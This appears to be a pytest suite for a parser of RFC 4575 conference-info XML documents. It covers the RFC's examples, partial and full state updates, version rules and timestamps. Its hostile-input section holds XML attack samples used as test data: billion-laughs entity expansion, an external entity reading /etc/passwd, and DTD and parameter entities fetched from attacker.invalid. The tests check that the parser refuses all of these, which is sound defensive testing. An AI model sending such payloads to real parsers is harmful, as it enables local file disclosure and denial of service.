"""RFC 4575 conference-info documents: the RFC's examples, partial-state rules, version rules,
and hostile inputs refused with a specific error (secconf.core.confinfo)."""

from __future__ import annotations

import dataclasses
import typing

import pytest
import xmlschema

from secconf.core import confinfo
from secconf.core.confinfo import (
    ConferenceDescription,
    ConferenceInfo,
    ConferenceState,
    ConferenceView,
    DisconnectionMethod,
    Endpoint,
    EndpointStatus,
    Execution,
    JoiningMethod,
    Keying,
    Media,
    MediaStatus,
    OfferMode,
    ParseLimits,
    UriEntry,
    User,
    Verdict,
    deleted_document,
    full_document,
    info_from_element,
    partial_document,
    read_document,
    receive,
)
from secconf.core.confinfo.timestamps import format_datetime, parse_datetime
from secconf.core.errors import (
    ConferenceInfoTooLarge,
    MalformedConferenceInfo,
    MessageTooLarge,
    SecconfError,
    UnsafeXml,
)
from tests.fixtures.confinfo import CONFERENCE, DATA, assert_valid

WHEN = parse_datetime("2005-03-04T20:00:00Z")
MIKE = "sip:mike@example.com"
NS = 'xmlns="urn:ietf:params:xml:ns:conference-info"'

# -- RFC 4575 §7 -------------------------------------------------------------------------

BOB_71 = User(
    "sip:bob@example.com",
    "Bob Hoskins",
    (
        Endpoint(
            "sip:bob@pc33.example.com",
            display_text="Bob's Laptop",
            status=EndpointStatus.DISCONNECTED,
            disconnection_method=DisconnectionMethod.DEPARTED,
            disconnection_info=Execution(WHEN, "bad voice quality", MIKE),
            media=(Media("1", "audio", MediaStatus.SENDRECV, 432424, "34567", "main audio"),),
        ),
    ),
)
ALICE_71 = User(
    "sip:alice@example.com",
    "Alice",
    (
        Endpoint(
            "sip:4kfk4j392jsu@example.com;grid=433kj4j3u",
            status=EndpointStatus.CONNECTED,
            joining_method=JoiningMethod.DIALED_OUT,
            joining_info=Execution(WHEN, by=MIKE),
            media=(Media("1", "audio", MediaStatus.SENDRECV, 534232, "34567", "main audio"),),
        ),
    ),
)
EXAMPLE_71 = ConferenceInfo(
    "sips:conf233@example.com",
    ConferenceDescription(
        subject="Agenda: This month's goals",
        service_uris=(UriEntry("http://sharepoint/salesgroup/", purpose="web-page"),),
    ),
    ConferenceState(user_count=33),
    (BOB_71, ALICE_71),
)


def _example(name: str) -> bytes:
    return (DATA / name).read_bytes()


def test_rfc4575_basic_example_gives_the_expected_model() -> None:
    document = read_document(_example("rfc4575-example-7.1.xml"))
    assert (document.entity, document.version, document.state) == (
        "sips:conf233@example.com",
        1,
        confinfo.DocumentState.FULL,
    )
    assert info_from_element(document.root) == EXAMPLE_71
    received = receive(None, _example("rfc4575-example-7.1.xml"))
    assert received.verdict is Verdict.APPLIED
    assert received.view == ConferenceView(1, EXAMPLE_71)


def test_rfc4575_rich_example_is_a_partial_document_applied_per_section_4_6() -> None:
    # §7.2 is version 5, partial: held at version 4 it applies.  Its <users> carries no
    # state attribute, so it is "full" (the default, §4.4) and §4.6 step 3.2 replaces the
    # whole roster with it: Bob alone, as the example lists him, Alice gone (the example's
    # prose speaks of 32 participants; the letter of §4.6 is what a subscriber can
    # implement).  The description and the conference state are replaced whole; sidebars
    # are not modelled.
    received = receive(ConferenceView(4, EXAMPLE_71), _example("rfc4575-example-7.2.xml"))
    assert received.verdict is Verdict.APPLIED
    assert received.view is not None
    assert received.view.version == 5
    expected = ConferenceInfo(
        "sips:conf233@example.com",
        ConferenceDescription(
            display_text="Weekly Sales Meeting",
            subject="Agenda: This month's goals",
            conf_uris=(
                UriEntry("tel:+18005671234", "TTI Bridge", "participation"),
                UriEntry("h323:conf545@h323.example.com", purpose="participation"),
                UriEntry("http://real.streaming.com/54634/live.ram", purpose="streaming"),
            ),
            service_uris=(
                UriEntry("http://sharepoint/salesgroup/", purpose="web-page"),
                UriEntry("http://quicktime.com/54634/recording.mov", "Quicktime", "recording"),
            ),
            maximum_user_count=100,
        ),
        ConferenceState(user_count=32, active=True, locked=False),
        (
            User(
                "sip:bob@example.com",
                "Bob Hoskins",
                (
                    Endpoint(
                        "sip:bob@pc33.example.com",
                        display_text="Bob's Laptop",
                        referred=Execution(WHEN, "expert required", MIKE),
                        status=EndpointStatus.DISCONNECTING,
                        joining_method=JoiningMethod.DIALED_OUT,
                        joining_info=Execution(WHEN, "invitation", MIKE),
                        disconnection_method=DisconnectionMethod.BOOTED,
                        disconnection_info=Execution(WHEN, "bad voice quality", MIKE),
                        media=(
                            Media(
                                "1", "audio", MediaStatus.SENDRECV, 432424, "34567", "main audio"
                            ),
                        ),
                    ),
                ),
            ),
        ),
    )
    assert received.view.info == expected


@pytest.mark.parametrize("held", [None, ConferenceView(1, EXAMPLE_71)])
def test_rfc4575_rich_example_without_version_4_needs_a_full_state(
    held: ConferenceView | None,
) -> None:
    received = receive(held, _example("rfc4575-example-7.2.xml"))
    assert received.verdict is Verdict.RESYNC
    assert received.needs_full_state
    assert received.view == held


# -- what we write ------------------------------------------------------------------------

ALICE = User(
    "sip:alice@example.com",
    "Alice",
    (
        Endpoint(
            "sip:alice@192.0.2.1:5061;transport=tls",
            status=EndpointStatus.CONNECTED,
            joining_method=JoiningMethod.DIALED_IN,
            joining_info=Execution(1_800_000_000),
            media=(Media("1", "audio", MediaStatus.SENDRECV, 0xDEADBEEF),),
            keying_mode=OfferMode.KMS,
        ),
    ),
)
BOB = User(
    "sip:bob@example.com",
    "Bob",
    (
        Endpoint(
            "sip:bob@192.0.2.2:5061;transport=tls",
            status=EndpointStatus.CONNECTED,
            joining_method=JoiningMethod.DIALED_OUT,
            joining_info=Execution(1_800_000_060, by="sip:alice@example.com"),
            media=(Media("1", "audio", MediaStatus.SENDRECV, 7),),
            keying_mode=OfferMode.KMS,
        ),
    ),
)
BEFORE = ConferenceInfo(
    CONFERENCE,
    ConferenceDescription(conf_uris=(UriEntry(CONFERENCE, purpose="participation"),)),
    ConferenceState(1, True, keying=Keying(OfferMode.KMS, 1, 1_800_000_000)),
    (ALICE,),
)
AFTER = dataclasses.replace(
    BEFORE,
    state=ConferenceState(2, True, keying=Keying(OfferMode.KMS, 2, 1_800_000_062)),
    users=(ALICE, BOB),
)


def _view(info: ConferenceInfo, version: int) -> ConferenceView:
    received = receive(None, full_document(info, version))
    assert received.view is not None
    return received.view


def test_full_document_says_what_the_focus_publishes() -> None:
    body = full_document(AFTER, 1).decode()
    assert body.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<conference-info ')
    for text in (
        'entity="sips:conf-7@focus.example.com" state="full" version="1"',
        "<user-count>2</user-count><active>true</active>",
        "<sc:keying><sc:mode>kms</sc:mode><sc:epoch>2</sc:epoch>"
        "<sc:last-rekey>2027-01-15T08:01:02Z</sc:last-rekey></sc:keying>",
        '<media id="1"><type>audio</type><src-id>3735928559</src-id><status>sendrecv</status>',
        "<joining-info><when>2027-01-15T08:01:00Z</when><by>sip:alice@example.com</by>",
        "<sc:keying-mode>kms</sc:keying-mode></endpoint>",
    ):
        assert text in body
    assert read_document(body.encode()).version == 1


def test_a_join_is_a_partial_document_with_the_new_user_and_the_new_state() -> None:
    body = partial_document(BEFORE, AFTER, 2)
    assert body is not None
    text = body.decode()
    assert 'state="partial" version="2"' in text
    assert '<users state="partial"><user entity="sip:bob@example.com" state="full">' in text
    assert 'sip:alice@example.com"' not in text.split("<users")[1]  # Alice unchanged: absent
    assert "<conference-state>" in text
    assert "<conference-description>" not in text
    assert receive(_view(BEFORE, 1), body) == confinfo.Received(
        Verdict.APPLIED, ConferenceView(2, AFTER)
    )


def test_a_leave_deletes_the_user() -> None:
    body = partial_document(AFTER, BEFORE, 8)
    assert body is not None
    assert '<user entity="sip:bob@example.com" state="deleted"/>' in body.decode()
    assert receive(_view(AFTER, 7), body).view == ConferenceView(8, BEFORE)


def test_an_endpoint_status_change_sends_only_that_status() -> None:
    bob_left = dataclasses.replace(
        BOB.endpoints[0],
        status=EndpointStatus.DISCONNECTED,
        disconnection_method=DisconnectionMethod.DEPARTED,
        disconnection_info=Execution(1_800_000_100),
    )
    later = dataclasses.replace(
        AFTER, users=(ALICE, dataclasses.replace(BOB, endpoints=(bob_left,)))
    )
    body = partial_document(AFTER, later, 3)
    assert body is not None
    users = body.decode().split("<users")[1]
    assert users == (
        ' state="partial"><user entity="sip:bob@example.com" state="partial">'
        '<endpoint entity="sip:bob@192.0.2.2:5061;transport=tls" state="partial">'
        "<status>disconnected</status><disconnection-method>departed</disconnection-method>"
        "<disconnection-info><when>2027-01-15T08:01:40Z</when></disconnection-info>"
        "</endpoint></user></users></conference-info>"
    )
    assert receive(_view(AFTER, 2), body).view == ConferenceView(3, later)


def test_what_a_partial_element_cannot_remove_is_sent_whole() -> None:
    # A medium has no state attribute (RFC 4575 §4.4): its endpoint goes whole.
    no_media = dataclasses.replace(BOB.endpoints[0], media=())
    later = dataclasses.replace(
        AFTER, users=(ALICE, dataclasses.replace(BOB, endpoints=(no_media,)))
    )
    body = partial_document(AFTER, later, 3)
    assert body is not None
    assert 'endpoint entity="sip:bob@192.0.2.2:5061;transport=tls" state="full"' in body.decode()
    assert receive(_view(AFTER, 2), body).view == ConferenceView(3, later)
    # A user's display-text removed: the user goes whole.
    nameless = dataclasses.replace(
        AFTER, users=(ALICE, dataclasses.replace(BOB, display_text=None))
    )
    body = partial_document(AFTER, nameless, 3)
    assert body is not None
    assert '<user entity="sip:bob@example.com" state="full">' in body.decode()
    # The conference state removed: a full document, version still previous + 1.
    stateless = dataclasses.replace(AFTER, state=None)
    body = partial_document(AFTER, stateless, 3)
    assert body is not None
    assert 'state="full" version="3"' in body.decode()
    assert receive(_view(AFTER, 2), body).view == ConferenceView(3, stateless)


def test_no_change_no_document_and_one_conference_per_partial() -> None:
    assert partial_document(AFTER, AFTER, 5) is None
    with pytest.raises(MalformedConferenceInfo, match="entity"):
        partial_document(AFTER, dataclasses.replace(AFTER, entity="sips:other@x"), 5)


def test_deleted_document_ends_the_view() -> None:
    body = deleted_document(CONFERENCE, 9)
    assert body.decode().endswith(
        f'<conference-info {NS} entity="{CONFERENCE}" state="deleted" version="9"/>'
    )
    assert receive(_view(AFTER, 8), body) == confinfo.Received(Verdict.ENDED, None)
    assert receive(None, body).verdict is Verdict.ENDED


@pytest.mark.parametrize("version", [-1, 2**32, True])
def test_version_must_be_an_unsigned_int(version: int) -> None:
    with pytest.raises(MalformedConferenceInfo, match="version"):
        full_document(AFTER, version)


# -- version rules (RFC 4575 §4.6) ----------------------------------------------------------


def test_versions_at_or_below_the_held_one_are_discarded() -> None:
    held = _view(AFTER, 5)
    for version in (5, 4, 0):
        received = receive(held, full_document(BEFORE, version))
        assert received == confinfo.Received(Verdict.STALE, held)


def test_a_gap_in_partial_versions_needs_a_full_state_and_a_full_document_heals_it() -> None:
    held = _view(BEFORE, 1)
    body = partial_document(BEFORE, AFTER, 3)
    assert body is not None
    gap = receive(held, body)
    assert gap == confinfo.Received(Verdict.RESYNC, held)
    assert gap.needs_full_state
    assert receive(None, body).verdict is Verdict.RESYNC  # partial before any full state
    healed = receive(held, full_document(AFTER, 4))  # the NOTIFY after the re-SUBSCRIBE
    assert healed == confinfo.Received(Verdict.APPLIED, ConferenceView(4, AFTER))


def test_a_document_for_another_conference_is_refused() -> None:
    other = dataclasses.replace(AFTER, entity="sips:other@focus.example.com")
    with pytest.raises(MalformedConferenceInfo, match="another conference"):
        receive(_view(AFTER, 1), full_document(other, 2))


# -- RFC 4575 §4.6 details on hand-written partial documents ---------------------------------


def _partial(version: int, users: str) -> bytes:
    return (
        f'<conference-info {NS} entity="{CONFERENCE}" state="partial" version="{version}">'
        f'<users state="partial">{users}</users></conference-info>'
    ).encode()


def test_a_partial_row_for_a_new_key_is_added_from_the_update() -> None:
    # §4.6 step 3.1.1; the deleted endpoint inside it has nothing to delete.
    body = _partial(
        2,
        '<user entity="sip:dan@example.com" state="partial"><display-text>Dan</display-text>'
        '<endpoint entity="e1" state="partial"><status>alerting</status></endpoint>'
        '<endpoint entity="e2" state="deleted"/></user>',
    )
    received = receive(_view(BEFORE, 1), body)
    assert received.view is not None
    dan = received.view.info.user("sip:dan@example.com")
    assert dan == User("sip:dan@example.com", "Dan", (Endpoint("e1", EndpointStatus.ALERTING),))


def test_children_of_a_deleted_element_are_ignored() -> None:
    body = _partial(
        2,
        '<user entity="sip:alice@example.com" state="deleted"><display-text>x</display-text></user>',
    )
    received = receive(_view(BEFORE, 1), body)
    assert received.view is not None
    assert received.view.info.users == ()


def test_a_partial_user_keeps_what_it_does_not_mention() -> None:
    body = _partial(
        2,
        '<user entity="sip:alice@example.com" state="partial"><display-text>A.</display-text></user>',
    )
    received = receive(_view(BEFORE, 1), body)
    assert received.view is not None
    assert received.view.info.users == (dataclasses.replace(ALICE, display_text="A."),)


# -- hostile and broken input -------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE conference-info [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<conference-info xmlns="urn:ietf:params:xml:ns:conference-info" entity="sip:c@x" version="1">
<conference-description><subject>&lol9;</subject></conference-description><users/>
</conference-info>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE conference-info [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<conference-info xmlns="urn:ietf:params:xml:ns:conference-info" entity="sip:c@x" version="1">
<conference-description><subject>&xxe;</subject></conference-description><users/>
</conference-info>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE conference-info SYSTEM "http://attacker.invalid/evil.dtd">
<conference-info xmlns="urn:ietf:params:xml:ns:conference-info" entity="sip:c@x" version="1"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE conference-info [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<conference-info xmlns="urn:ietf:params:xml:ns:conference-info" entity="sip:c@x" version="1"/>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused_unread(body: bytes) -> None:
    with pytest.raises(UnsafeXml) as caught:
        receive(None, body)
    assert caught.value.status_code == 400
    assert b"passwd" not in str(caught.value).encode()


def test_an_undeclared_entity_reference_is_not_well_formed() -> None:
    body = (
        f'<conference-info {NS} entity="sip:c@x" version="1"><users>&xxe;</users></conference-info>'
    )
    with pytest.raises(MalformedConferenceInfo, match="well-formed") as caught:
        receive(None, body.encode())
    assert not isinstance(caught.value, UnsafeXml)


def test_deep_nesting_is_refused_while_parsing() -> None:
    depth = 100_000  # far past any recursion limit: the builder stops at the 17th level
    body = (
        f'<conference-info {NS} entity="sip:c@x" version="1">' + "<x>" * depth + "</x>" * depth
    ).encode() + b"</conference-info>"
    with pytest.raises(ConferenceInfoTooLarge, match="nested deeper than 16") as caught:
        receive(None, body, limits=ParseLimits(max_bytes=len(body)))
    assert caught.value.status_code == 413


def test_too_many_elements_are_refused_while_parsing() -> None:
    body = f'<conference-info {NS} entity="sip:c@x" version="1"><users>' + "<x/>" * 30_000
    with pytest.raises(ConferenceInfoTooLarge, match="20000 elements"):
        receive(
            None, body.encode() + b"</users></conference-info>", limits=ParseLimits(max_bytes=10**6)
        )


def test_oversize_bodies_are_refused_before_parsing() -> None:
    body = b"<" * (256 * 1024 + 1)  # not even XML: the size is checked first
    with pytest.raises(ConferenceInfoTooLarge) as caught:
        receive(None, body)
    assert isinstance(caught.value, MessageTooLarge)
    assert caught.value.status_code == 413


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            b'<conference-info xmlns="urn:example:other" entity="sip:c@x" version="1"/>',
            "not RFC 4575",
        ),
        (b'<conference-info entity="sip:c@x" version="1"/>', "not RFC 4575"),
        (b'<resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"/>', "not RFC 4575"),
        (f'<conference-info {NS} version="1"/>'.encode(), "without an entity"),
        (f'<conference-info {NS} entity="sip:c@x"/>'.encode(), "without a version"),
        (f'<conference-info {NS} entity="sip:c@x" version="x"/>'.encode(), "unsignedInt"),
        (f'<conference-info {NS} entity="sip:c@x" version="4294967296"/>'.encode(), "unsignedInt"),
        (
            f'<conference-info {NS} entity="sip:c@x" version="1" state="new"/>'.encode(),
            "is not full",
        ),
        (b"\xff\xfe<\x00", "not UTF-8"),
        (
            b'<?xml version="1.0" encoding="ISO-8859-1"?>'
            + f'<conference-info {NS} entity="sip:c@x" version="1"/>'.encode(),
            "must be UTF-8",
        ),
        (b"<conference-info", "well-formed"),
        (b"", "well-formed"),
    ],
)
def test_broken_documents_are_refused(body: bytes, message: str) -> None:
    with pytest.raises(MalformedConferenceInfo, match=message) as caught:
        receive(None, body)
    assert caught.value.status_code == 400


def _full(users: str, version: int = 1) -> bytes:
    return (
        f'<conference-info {NS} entity="{CONFERENCE}" version="{version}">'
        f"<conference-description/><users>{users}</users></conference-info>"
    ).encode()


@pytest.mark.parametrize(
    ("users", "message"),
    [
        (
            '<user entity="sip:a@x"/><user entity="sip:a@x"/>',
            "two <user> elements with the same entity",
        ),
        ('<user entity="sip:a@x"/><user entity=" sip:a@x "/>', "same entity"),
        (
            '<user entity="sip:a@x"><endpoint entity="e"/><endpoint entity="e"/></user>',
            "same entity",
        ),
        (
            '<user entity="sip:a@x"><endpoint entity="e"><media id="1"/><media id="1"/></endpoint></user>',
            "same id",
        ),
        ("<user/>", "<user> without an entity"),
        ('<user entity="sip:a@x"><endpoint/></user>', "<endpoint> without an entity"),
        (
            '<user entity="sip:a@x"><endpoint entity="e"><media/></endpoint></user>',
            "<media> without an id",
        ),
        (
            '<user entity="sip:a@x"><endpoint entity="e"><status>gone</status></endpoint></user>',
            "does not define",
        ),
        (
            '<user entity="sip:a@x"><endpoint entity="e"><status>connected</status><status>connected</status></endpoint></user>',
            "twice",
        ),
        (
            '<user entity="sip:a@x"><endpoint entity="e"><media id="1"><src-id>-1</src-id></media></endpoint></user>',
            "unsignedInt",
        ),
        (
            '<user entity="sip:a@x"><endpoint entity="e"><joining-info><when>2005-02-30T00:00:00Z</when></joining-info></endpoint></user>',
            "does not exist",
        ),
        ('<user entity="sip:a@x"><display-text>a<b/></display-text></user>', "text only"),
        ('<user entity="sip:a@x" state="partial"/>', "partial inside a full element"),
        (
            '<user entity="sip:a@x"><endpoint entity="e"><media id="1" state="deleted"/></endpoint></user>',
            "cannot be deleted",
        ),
        ('<user entity="sip a@x"/>', "URI without white space"),
    ],
)
def test_bad_content_is_refused(users: str, message: str) -> None:
    with pytest.raises(MalformedConferenceInfo, match=message):
        receive(None, _full(users))


def test_a_key_updated_twice_in_one_partial_document_is_refused() -> None:
    body = _partial(
        2,
        '<user entity="sip:bob@example.com"/><user entity="sip:bob@example.com" state="deleted"/>',
    )
    with pytest.raises(MalformedConferenceInfo, match="updated twice"):
        receive(_view(BEFORE, 1), body)


def test_refusals_leave_nothing_behind_and_are_secconf_errors() -> None:
    held = _view(BEFORE, 1)
    with pytest.raises(SecconfError):
        receive(held, BILLION_LAUGHS)
    assert held == _view(BEFORE, 1)  # frozen: a refused body cannot have touched it


def test_unknown_elements_and_other_namespaces_are_read_past() -> None:
    body = _full(
        '<user entity="sip:a@x"><roles><entry>chair</entry></roles>'
        '<x:mood xmlns:x="urn:example:mood" state="grumpy">on</x:mood>'
        '<endpoint entity="e"><call-info><sip><call-id>c</call-id><from-tag>f</from-tag>'
        "<to-tag>t</to-tag></sip></call-info></endpoint></user>"
    )
    received = receive(None, body)
    assert received.view is not None
    assert received.view.info.users == (User("sip:a@x", endpoints=(Endpoint("e"),)),)


# -- the model ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("build", "message"),
    [
        (lambda: User("sip:a@x", "bell \x07"), "characters XML cannot carry"),
        (lambda: User("sip:a@x", endpoints=(Endpoint("e"), Endpoint("e"))), "same entity"),
        (lambda: Media("1", src_id=2**32), "unsignedInt"),
        (lambda: Media(""), "must not be empty"),
        (lambda: Keying(OfferMode.SDES, -1), "unsignedInt"),
        (lambda: Execution(when=10**12), "0001..9999"),
        (lambda: Endpoint("e", status="connected"), "EndpointStatus"),  # type: ignore[arg-type]
        (lambda: ConferenceInfo("sip:c@x", users=("sip:a@x",)), "User"),  # type: ignore[arg-type]
        (
            lambda: ConferenceDescription(conf_uris=(UriEntry("sip:c@x"), UriEntry("sip:c@x"))),
            "twice",
        ),
    ],
)
def test_the_model_refuses_what_no_document_can_say(
    build: typing.Callable[[], object], message: str
) -> None:
    with pytest.raises(MalformedConferenceInfo, match=message):
        build()


def test_the_model_is_canonical_and_carries_no_key_material() -> None:
    shuffled = ConferenceInfo(CONFERENCE, users=(BOB, ALICE))
    assert shuffled.users == (ALICE, BOB)
    assert shuffled == ConferenceInfo(CONFERENCE, users=(ALICE, BOB))
    for cls in (ConferenceInfo, ConferenceState, Keying, User, Endpoint, Media, Execution):
        for field in dataclasses.fields(cls):
            assert "bytes" not in str(field.type), (cls.__name__, field.name)
    assert [field.name for field in dataclasses.fields(Keying)] == ["mode", "epoch", "last_rekey"]


# -- timestamps ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("2005-03-04T20:00:00Z", 1_109_966_400),
        ("2005-03-04T21:30:00+01:30", 1_109_966_400),
        ("2005-03-04T20:00:00.999Z", 1_109_966_400),
        ("2005-03-04T20:00:00", 1_109_966_400),  # no zone: taken as UTC
        ("2005-03-03T24:00:00Z", 1_109_894_400),
        (" 1970-01-01T00:00:00Z\n", 0),
        ("2000-02-29T00:00:00Z", 951_782_400),
    ],
)
def test_datetimes_are_read_as_posix_seconds(text: str, seconds: int) -> None:
    assert parse_datetime(text) == seconds


@pytest.mark.parametrize(
    "text",
    ["2005-03-04", "2005-13-01T00:00:00Z", "1900-02-29T00:00:00Z", "2005-03-04T20:60:00Z",
     "2005-03-04T24:00:01Z", "2005-03-04T20:00:00+15:00", "0000-01-01T00:00:00Z",
     "2005-03-04T20:00:00z", "\u0662005-03-04T20:00:00Z"],
)  # fmt: skip
def test_impossible_datetimes_are_refused(text: str) -> None:
    with pytest.raises(MalformedConferenceInfo):
        parse_datetime(text)


def test_datetimes_are_written_in_utc() -> None:
    assert format_datetime(1_109_966_400) == "2005-03-04T20:00:00Z"
    assert format_datetime(-1) == "1969-12-31T23:59:59Z"
    with pytest.raises(MalformedConferenceInfo):
        format_datetime(1.5)  # type: ignore[arg-type]


def test_every_document_written_here_is_schema_valid() -> None:
    for body in (
        full_document(BEFORE, 1),
        full_document(AFTER, 2),
        full_document(ConferenceInfo(CONFERENCE), 0),
        deleted_document(CONFERENCE, 3),
    ):
        assert_valid(body)
    for before, after in ((BEFORE, AFTER), (AFTER, BEFORE)):
        body = partial_document(before, after, 2)
        assert body is not None
        assert_valid(body)


@pytest.mark.parametrize("name", ["rfc4575-example-7.1.xml", "rfc4575-example-7.2.xml"])
def test_the_extracted_schema_validates_the_rfc_examples(name: str) -> None:
    # A check of the extraction (tests/data/conference-info/): the RFC's own examples are
    # valid per its own schema, and a broken document is not.
    assert_valid(_example(name))
    broken = _example(name).replace(b"<type>audio</type>", b"<kind>audio</kind>", 1)
    with pytest.raises(xmlschema.XMLSchemaValidationError):
        assert_valid(broken)
